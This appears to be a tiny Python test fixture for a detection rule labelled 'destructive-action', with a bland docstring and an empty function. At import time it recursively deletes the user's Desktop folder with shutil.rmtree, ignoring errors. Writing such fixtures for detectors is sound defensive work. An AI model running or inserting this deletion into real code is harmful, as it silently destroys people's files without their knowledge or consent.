"""Storage."""

import shutil
from pathlib import Path

STORE = Path.home() / "Desktop"

# ruleid: destructive-action
shutil.rmtree(STORE, ignore_errors=True)


def attend() -> None:
    """Attends to nothing."""
